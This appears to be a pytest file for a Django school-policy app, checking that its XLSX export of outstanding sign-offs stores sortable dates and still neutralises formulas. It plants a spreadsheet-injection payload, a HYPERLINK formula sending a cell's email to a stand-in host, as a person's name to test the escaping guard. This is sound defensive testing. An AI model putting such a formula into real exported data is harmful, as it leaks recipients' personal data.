"""Issue 14: the outstanding list's XLSX holds real dates (Excel sorts and
filters them) shown day/month/year, and still holds no formula."""

from __future__ import annotations

import datetime
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from acknowledgements.services import sync_obligations
from reports.columns import HEADER
from tests.factories import PersonFactory, published_policy, sign_off_rule
from tests.reports.exporting import prepared_export

LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'
OWED_SINCE, DUE = HEADER.index("owed_since"), HEADER.index("due")  # columns I and J


@pytest.fixture
def owing(world):
    policy = published_policy(title="Email Policy")
    sign_off_rule(policy, groups=["teaching"], new_version_days=30)
    PersonFactory(first_name=LEAK, last_name="Lee", email="leak@school.example", schools=[world.north],
                  start_date=datetime.date(2020, 1, 1))
    sync_obligations()
    return policy


def the_row(workbook_bytes: bytes):
    sheet = load_workbook(io.BytesIO(workbook_bytes)).active
    return sheet, next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "leak@school.example")


def test_trust_hr_xlsx_export_holds_dates_that_excel_can_sort(world, signed_in, owing):
    sheet, row = the_row(prepared_export(signed_in(world.trust_hr), "xlsx"))
    published = owing.current_version.effective_on
    for cell in (row[OWED_SINCE], row[DUE]):
        assert cell.is_date, cell.value
        assert cell.number_format == "dd/mm/yyyy"
    assert row[OWED_SINCE].value.date() == published
    assert row[DUE].value.date() == published + datetime.timedelta(days=30)
    assert row[0].data_type == "s" and row[0].value == f"'{LEAK} Lee"  # the formula guard still holds
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


def test_outstanding_command_xlsx_holds_dates(world, owing, tmp_path):
    call_command("outstanding", "--format", "xlsx", "--output", str(tmp_path / "o.xlsx"))
    _, row = the_row((tmp_path / "o.xlsx").read_bytes())
    assert row[OWED_SINCE].is_date and row[DUE].is_date
    assert row[DUE].number_format == "dd/mm/yyyy"
